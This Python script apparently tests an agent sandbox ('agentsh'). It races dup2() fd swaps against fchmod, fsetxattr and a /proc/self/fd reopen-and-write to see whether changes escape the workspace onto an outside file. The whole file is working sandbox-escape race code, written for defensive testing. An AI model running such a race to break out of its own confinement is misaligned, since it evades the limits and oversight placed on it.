"""Threat: win the race between the decision on an fd and the change made
through it. One thread loops fchmod (or fsetxattr) on fd number N, which
names a workspace file, while another dup2()s an fd of a file outside the
workspace onto N and back. Deciding on /proc/TID/fd/N and letting the kernel
continue lets the change land on the outside file.

reopen: N takes turns between a pipe (a file with no name, which a write
open of /proc/self/fd/N may reach) and the outside file opened read-only;
the loop reopens /proc/self/fd/N for writing and writes "planted" into
whatever regular file it got. The open must never reach the outside file.

Usage: race_fd_swap.py fchmod|fsetxattr|reopen WORKSPACE_FILE OUTSIDE_FILE [SECONDS]
Prints "changed: COUNT" (calls that succeeded) and "refused: COUNT";
reopen also "written: COUNT" (writes that reached the outside file).
"""

import ctypes
import os
import stat
import sys
import threading
import time

DONE = 42
N = 100  # the fd number both files take turns at
MAX_ITERATIONS = 200_000

libc = ctypes.CDLL(None, use_errno=True)  # CDLL drops the GIL around each call
libc.dup2.argtypes = (ctypes.c_int, ctypes.c_int)
libc.fchmod.argtypes = (ctypes.c_int, ctypes.c_uint)
libc.fsetxattr.argtypes = (ctypes.c_int, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_size_t,
                           ctypes.c_int)  # fmt: skip

variant, inside, outside = sys.argv[1], sys.argv[2], sys.argv[3]
seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 2.0
if variant == "reopen":
    ws_fd, _pipe_w = os.pipe()  # the writer stays open: a write open does not wait
else:
    ws_fd = os.open(inside, os.O_RDONLY)
out_fd = os.open(outside, os.O_RDONLY)
written = 0
os.dup2(ws_fd, N)
stop = threading.Event()


def flip():
    while not stop.is_set():
        libc.dup2(out_fd, N)
        libc.dup2(ws_fd, N)


def reopen():
    global written
    try:
        fd = os.open(f"/proc/self/fd/{N}", os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        return -1
    try:
        if stat.S_ISREG(os.fstat(fd).st_mode):
            os.write(fd, b"planted\n")
            written += 1
    finally:
        os.close(fd)
    return 0


def change():
    if variant == "reopen":
        return reopen()
    if variant == "fchmod":
        return libc.fchmod(N, 0o666)
    return libc.fsetxattr(N, b"user.agentsh-escape", b"planted", 7, 0)


flipper = threading.Thread(target=flip, daemon=True)
flipper.start()
changed = refused = iterations = 0
deadline = time.monotonic() + seconds
while time.monotonic() < deadline and iterations < MAX_ITERATIONS:
    iterations += 1
    if change() == 0:
        changed += 1
    else:
        refused += 1
stop.set()
flipper.join()
print(f"iterations: {iterations}")
print(f"changed: {changed}")
print(f"refused: {refused}")
if variant == "reopen":
    print(f"written: {written}")
sys.exit(DONE)
